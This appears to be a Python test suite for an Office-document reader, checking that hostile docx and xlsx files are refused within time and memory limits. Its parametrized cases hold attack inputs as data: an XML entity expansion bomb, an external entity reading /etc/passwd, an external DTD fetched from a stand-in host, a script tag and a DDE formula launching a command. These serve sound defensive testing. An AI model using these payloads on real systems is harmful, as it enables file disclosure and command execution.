"""Office files made to do harm: each is refused in good time, with a reason, whatever it holds."""

from __future__ import annotations

import random
import time
import tracemalloc
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reports.domain.document import Unreadable
from reports.readers import docx, opening, xlsx
from reports.readers.package import MAX_ENTRIES, MAX_PART
from tests.gridding import Drawing, Spot
from tests.readers import writing
from tests.readers.office import HEAD, excel, p, packed, t, tbl, tc, tr, types, word

SECONDS = 10
MEGABYTES = 300
"""What reading any file may take, on a slow machine; see docs/import.md."""
REASONS = frozenset(
    (
        *("empty", "too-large", "too-long", "line-too-long", "other-format", "binary", "encoding", "macros"),
        *("locked", "damaged", "swollen", "nested", "not-read", "mismatch", "old-format"),
    )
)
DRAWING = Drawing((Spot(1, 1, "甲", 2), Spot(1, 2, "1"), Spot(2, 2, "2")))
FILES = {"a.docx": writing.docx(["标题。", DRAWING]), "a.xlsx": writing.xlsx(["标题。", DRAWING])}


def reason(data: bytes, name: str) -> str:
    """Why it is not read, "" where it is; within bounds."""
    begun = time.process_time()
    tracemalloc.start()
    try:
        opening.read(data, name=name)
    except Unreadable as problem:
        return problem.reason
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert time.process_time() - begun < SECONDS
        assert peak < MEGABYTES * 2**20
    return ""


def test_a_part_that_unpacks_to_far_more_is_not_unpacked() -> None:
    assert reason(word(" " * 40_000_000), "a.docx") == "swollen"
    assert reason(word(p("甲"), styles=" " * 20_000_000), "a.docx") == "swollen"
    assert reason(excel("<sheetData/>", sharedStrings=" " * 20_000_000), "a.xlsx") == "swollen"


def test_a_part_just_below_the_ratio_but_too_large_is_not_read() -> None:
    noise = random.Random(1)
    words = "".join(p(str(noise.random())) for _ in range(90_000))
    assert len(words) > MAX_PART
    assert reason(word(words), "a.docx") == "swollen"


def test_a_size_that_lies_is_found_out() -> None:
    data = bytearray(word(p("甲") * 5000))
    place = data.rindex(b"PK\x01\x02")
    data[place + 24 : place + 28] = (100).to_bytes(4, "little")
    assert reason(bytes(data), "a.docx") == "damaged"


def test_too_many_entries_are_not_opened() -> None:
    parts = {f"{n}": "" for n in range(MAX_ENTRIES + 1)}
    assert reason(packed(parts, zipfile.ZIP_STORED), "a.docx") == "swollen"


def test_a_part_that_stands_twice_is_damage() -> None:
    data = word(p("甲")).replace(b"word/document.xml", b"[Content_Types].x")
    assert reason(data, "a.docx") == "damaged"


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd">',
        '<?xml version="1.0" encoding="UTF-7"?>',
        '<?xml version="1.0" encoding="UTF-16"?>',
    ],
)
def test_entities_and_strange_encodings_are_refused(head: str) -> None:
    assert reason(word(p("甲"), head=head), "a.docx") == "damaged"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert reason(packed({"[Content_Types].xml": head + types("d.xml", kind)}), "a.docx") != ""


def test_a_part_in_utf_16_is_refused() -> None:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    body = "<!DOCTYPE w [<!ENTITY a 'b'>]><w/>".encode("utf-16")
    assert reason(packed({"[Content_Types].xml": types("d.xml", kind), "d.xml": body}), "a.docx") == "damaged"


@pytest.mark.parametrize(
    "body",
    [
        "<w:sdt><w:sdtContent>" * 100 + p("甲") + "</w:sdtContent></w:sdt>" * 100,
        "<w:smartTag>" * 5000 + "</w:smartTag>" * 5000,
        "<w:tbl><w:tr><w:tc>" * 60 + p("甲") + "</w:tc></w:tr></w:tbl>" * 60,
        "<w:tbl><w:tr><w:tc/><w:tc>" * 60 + p("甲") + "</w:tc></w:tr></w:tbl>" * 60,
        "<w:p>" + "<w:ins>" * 60 + t("甲") + "</w:ins>" * 60 + "</w:p>",
        "<w:p><w:r><w:pict><w:txbxContent>" * 60 + p("甲") + "</w:txbxContent></w:pict></w:r></w:p>" * 60,
    ],
)
def test_what_stands_in_one_another_too_deeply_is_refused(body: str) -> None:
    assert reason(word(body), "a.docx") == "nested"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (tbl(tr(*["甲"] * 40)) * 1200, "too-long"),
        (p("甲") * 20_001, "too-long"),
        (p("甲" * 100_001), "line-too-long"),
        (tbl(tr(tc("甲", span=400), tc("乙", span=400), "丙")), "too-long"),
        (tbl(*[tr(tc("甲", span=499), "乙")] * 500), "too-long"),
    ],
)
def test_more_than_any_report_has_is_refused(body: str, expected: str) -> None:
    assert reason(word(body), "a.docx") == expected


def test_spans_beyond_reason_are_cut() -> None:
    for span in ("999999999999", "-5", "x", "0"):
        wide = f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{p("甲")}</w:tc>'
        assert reason(word(tbl(tr(wide), tr("乙", "1"))), "a.docx") in ("", "too-long")


def test_styles_and_lists_that_run_in_circles_end() -> None:
    styles = (
        '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
        '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>'
    )
    assert reason(word(p("甲", style="a"), styles=styles), "a.docx") == ""


@pytest.mark.parametrize(("count", "expected"), [(200_000, "too-long"), (1_000_000, "swollen")])
def test_a_million_merged_cells_are_refused(count: int, expected: str) -> None:
    merges = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, count))
    assert reason(excel(f"<sheetData/><mergeCells>{merges}</mergeCells>"), "a.xlsx") == expected


HIDDEN = '<cols><col min="1" max="9" hidden="1"/></cols>'
ONE = "<c><v>1</v></c>"
LAST = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
SHEETS = {
    "far apart": (f"<sheetData><row>{ONE}</row>{LAST}</sheetData>", ""),
    "far right": (f'<sheetData><row>{ONE}<c r="XFD1"><v>1</v></c></row></sheetData>', "too-long"),
    "outside": ('<sheetData><row><c r="AAA9999999"><v>1</v></c></row></sheetData>', "damaged"),
    "many": (f"<sheetData>{f'<row>{ONE}{ONE}</row>' * 20_100}</sheetData>", "too-long"),
    "no text": ('<sheetData><row><c t="s"><v>7</v></c></row></sheetData>', "damaged"),
    "hidden": (
        f'<cols><col min="1" max="9" hidden="1"/></cols><sheetData><row>{ONE}</row></sheetData>',
        "empty",
    ),
}


@pytest.mark.parametrize(("sheet", "expected"), SHEETS.values(), ids=SHEETS)
def test_sheets_of_the_largest_reach_cost_nothing(sheet: str, expected: str) -> None:
    assert reason(excel(sheet), "a.xlsx") == expected


def test_markup_and_formulas_are_words() -> None:
    body = p("&lt;script&gt;alert(1)&lt;/script&gt;") + tbl(tr("=cmd|'/C calc'!A0", "1"))
    found = docx.read(word(body))
    assert found.lines[0].text == "<script>alert(1)</script>"
    assert found.grids[0].slots[0].text == "=cmd|'/C calc'!A0"
    inline = '<c t="inlineStr"><is><t>=1+1&lt;b&gt;</t></is></c>'
    assert xlsx.read(excel(f"<sheetData><row>{inline}</row></sheetData>")).lines[0].text == "=1+1<b>"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=2000), name=st.sampled_from(("a.docx", "a.xlsx", "a", "a.csv", "a.json")))
def test_random_bytes_are_told_apart_or_refused(data: bytes, name: str) -> None:
    for head in (b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"%PDF-1.7"):
        assert reason(head + data, name) in REASONS | {"", "scanned", "slow"}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=st.sampled_from(tuple(FILES)), cut=st.floats(0, 1), at=st.floats(0, 1), value=st.integers(0, 255))
def test_files_cut_or_changed_at_random_never_crash(name: str, cut: float, at: float, value: int) -> None:
    whole = FILES[name]
    short = whole[: int(cut * (len(whole) - 1))]
    assert reason(short, name) in REASONS
    changed = bytearray(whole)
    changed[int(at * (len(whole) - 1))] = value
    assert reason(bytes(changed), name) in REASONS | {""}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(seed=st.integers(0, 10**6))
def test_parts_changed_at_random_never_crash(seed: int) -> None:
    chance = random.Random(seed)
    body = p("甲", number=(1, 0)) + tbl(tr(tc("甲", span=2, merge="restart"), "1"), tr("乙", "2"))
    text = list(f"{HEAD}<w:document><w:body>{body}</w:body></w:document>")
    for _ in range(chance.randrange(1, 6)):
        text[chance.randrange(len(text))] = chance.choice("<>/\"'&x0-wt:=\x00")
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    data = packed({"[Content_Types].xml": types("d.xml", kind), "d.xml": "".join(text)})
    assert reason(data, "a.docx") in REASONS | {""}
